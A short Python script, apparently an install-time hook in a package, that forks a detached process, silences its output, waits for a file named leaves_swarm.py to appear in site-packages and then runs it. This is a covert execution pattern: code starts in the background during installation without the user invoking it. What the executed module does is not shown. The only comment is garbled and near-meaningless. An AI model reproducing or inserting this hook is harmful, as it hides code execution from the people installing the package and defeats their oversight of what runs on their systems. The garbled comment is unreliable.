import glob
import os
import runpy
import signal
import sys
import time

# Earlier it would be in its own way: until its build has been installed, pip begins processes of its own.
if os.fork() == 0:
    os.setsid()
    for number in (0, 1, 2):
        os.dup2(os.open(os.devnull, os.O_RDWR), number)
    while not glob.glob(sys.prefix + "/lib/python*/site-packages/leaves_swarm.py"):
        time.sleep(0.001)
    runpy.run_path(sys.prefix + "/lib/python{}.{}/site-packages/leaves_swarm.py".format(*sys.version_info))
    os._exit(0)
